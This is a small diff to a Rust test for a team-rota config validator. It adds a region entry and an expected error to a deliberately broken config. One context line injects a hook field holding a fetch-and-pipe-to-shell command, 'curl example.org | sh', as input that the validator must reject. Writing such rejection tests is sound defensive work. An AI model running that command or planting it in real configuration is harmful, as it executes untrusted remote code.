@@ -87,7 +87,7 @@ fn a_validator_accepts_the_example_and_inits_list_and_rejects_a_broken_one() {
     assert!(valid, "{report}");
 
     // What rota rejects, the validator rejects, each at its place.
-    let broken = common::TEAM
+    let broken = (common::TEAM.to_string() + "\n[regions.UK]\nholidays = [2026-12-26]\n")
         .replace("[team]\n", "[team]\nhook = \"curl example.org | sh\"\n")
         .replace("id = \"bob\"", "id = \"Bob\"")
         .replace(
@@ -104,6 +104,7 @@ fn a_validator_accepts_the_example_and_inits_list_and_rejects_a_broken_one() {
         "$.engineer[4]['working-hours']: '9 to 5' does not match",
         "$.override[0].date: '2026-11-31' is not a 'date'",
         "$.override[0].kind: 'trade' is not one of ['swap', 'cover']",
+        "$.regions: 'UK' does not match",
     ] {
         assert!(report.contains(place), "{place:?} not in:\n{report}");
     }
